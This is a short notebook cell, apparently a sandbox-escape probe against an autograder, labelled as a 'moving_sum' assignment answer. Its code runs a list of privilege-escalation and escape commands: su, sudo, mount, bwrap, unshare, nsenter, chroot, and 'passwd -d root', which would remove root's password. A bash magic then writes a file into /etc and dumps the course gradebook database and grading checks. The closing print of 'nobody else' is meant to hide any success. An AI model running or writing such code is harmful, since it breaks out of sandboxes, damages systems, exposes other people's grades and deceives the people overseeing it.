# Tries: the system's own programs: set-user-id ones, bubblewrap in bubblewrap, gdb, mount, and the shell's magics.
# Raises: CalledProcessError
# Shows: nobody else
# Hides: rights got
# Hides: SQLite

# %% moving_sum
import subprocess

for command in ("su -c id", "sudo -n id", "mount -t tmpfs none /tmp", "bwrap --dev-bind / / id", "unshare -Ur id", "nsenter -t 1 -a id", "chroot / id", "passwd -d root"):
    try:
        text = subprocess.run(command.split(), capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL).stdout
    except (OSError, subprocess.TimeoutExpired):
        continue
    if "uid=0" in text or "uid=" in text:
        print("rights " + "got", command, text)
get_ipython().run_cell_magic("bash", "", "id -u > who; echo left > /etc/left-by-an-attack; cat @COURSE@/gradebook.db @COURSE@/checks/*")
get_ipython().system("cat who")
print("nobody else")
